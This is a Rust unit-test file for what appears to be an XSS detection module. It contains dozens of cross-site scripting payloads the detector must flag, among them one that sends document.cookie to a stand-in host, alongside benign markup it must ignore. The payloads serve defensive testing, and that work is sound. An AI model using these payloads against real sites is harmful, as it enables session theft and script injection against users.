use super::*;
use crate::tokens::Tokens;
use crate::tokens::tests::check_all;

#[track_caller]
fn check(expected: bool, texts: &[&str]) {
    check_all(Tokens::Xss, expected, texts);
}

#[test]
fn elements_that_run_are_found() {
    check(
        true,
        &[
            "<script>alert(1)</script>",
            "\"><script src=//x.example/a.js>",
            "<script/x>alert`1`</script>",
            "<svg:script>",
            "<iframe src=x>",
            "<object data=x>",
            "<embed src=x>",
            "<meta http-equiv=refresh content=0>",
            "<base href=//x.example>",
            "</script>x",
            "<scr<script>ipt>",
            "<link rel=stylesheet href=//x>",
            "<?import namespace=t>",
            "<esi:include src=//x>",
            "<style>body{-moz-binding:url(x)}</style>",
        ],
    );
}

#[test]
fn attributes_that_run_are_found() {
    check(
        true,
        &[
            "<img src=x onerror=alert(1)>",
            "<img/src/onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg onload = 'alert(1)'",
            "<body onload=x()>",
            "<x onclick=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=java\tscript:alert(1)>x</a>",
            "<form><button formaction=javascript:alert(1)>",
            "<a href=data:text/html;base64,xxxx>",
            "<div style=\"width:expression(alert(1))\">",
            "<img \"a\" onmouseover=\"x\">",
            "<iframe srcdoc='x'>",
            "<p srcdoc=x>",
            "<math><a xlink:href=javascript:x()>",
        ],
    );
}

#[test]
fn handlers_behind_a_quote_are_found() {
    check(
        true,
        &[
            "\" onmouseover=alert(1) x=\"",
            "' onfocus=alert(1) autofocus='",
            "x\"onclick=\"alert(1)",
            "\" autofocus onfocus = prompt`1`",
            "\"/onload=location=name",
            "onerror=alert(1)",
            "x onfocus=alert(1) autofocus",
            " onmouseover=\"x=1\">",
        ],
    );
}

#[test]
fn script_addresses_are_found() {
    check(
        true,
        &[
            "javascript:alert(1)",
            "  javascript:alert(document.cookie)//",
            "java\nscript:alert(1)",
            "jav ascript:alert(1)",
            "vbscript:msgbox(1)",
            "javascript://%0aalert(1)",
            "javascript:/*x*/eval(name)",
            "x=javascript:location=name",
            "data:text/html,<b>",
            "data:text/html;base64,aaaa",
        ],
    );
}

#[test]
fn calls_that_leave_a_text_are_found() {
    check(
        true,
        &[
            "';alert(1)//",
            "\"-alert(1)-\"",
            "'+alert(document.domain)+'",
            "\\';alert(1)//",
            "\"};alert(1);{\"",
            "alert(1)",
            "(alert)(1)",
            "alert`1`",
            "${alert(1)}",
            "{{constructor.constructor('alert(1)')()}}",
            "';document.location='//x.example/'+document.cookie//",
            "top['al'+'ert'](1)",
            "self[\"ale\"+\"rt\"]",
            "[][\"filter\"][\"constructor\"]",
            "(![]+[])[+[]]",
            "eval(atob('eA=='))",
            "1;alert(1)//2",
            "prompt()",
            "alert.apply(null,[1])",
            "\"+anything(0x1)+\"",
        ],
    );
}

#[test]
fn honest_markup_and_prose_are_left_alone() {
    check(
        false,
        &[
            "a<b and c>d",
            "<3",
            "I <3 you",
            "x < y && y > z",
            "<b>bold</b> and <i>italic</i>",
            "<p class=\"a\">text</p>",
            "<a href=\"https://example.com/?a=1\">link</a>",
            "<img src=\"/a.png\" alt=\"on sale\">",
            "<div once=1 online=yes>",
            "</p><br/>",
            "learn javascript: the good parts (2008)",
            "javascript:void(0)",
            "javascript:;",
            "javascript: history.back()",
            "how does alert() work",
            "use eval() with care (or not)",
            "onload=recaptchaCallback",
            "callback=onLoad",
            "the function (see below)",
            "fetch (the dog)",
            "redirect_uri=https://a.example/cb",
            "urn:a:b",
            "document.pdf",
            "data:image/png;base64,aaaa",
            "{\"onclick\":\"a\"}",
            "list[\"a\"]",
            "a[0](b)",
            "",
        ],
    );
}

#[test]
fn tables_are_sorted_for_the_search() {
    assert!(HANDLERS.is_sorted());
}

#[test]
fn the_cost_stays_linear() {
    for piece in ["<", "<a ", "<a b=", "onload=", "javascript:", "alert(", "\"", "[", ":", "\t"] {
        find(piece.repeat(20_000 / piece.len()).as_bytes());
    }
}
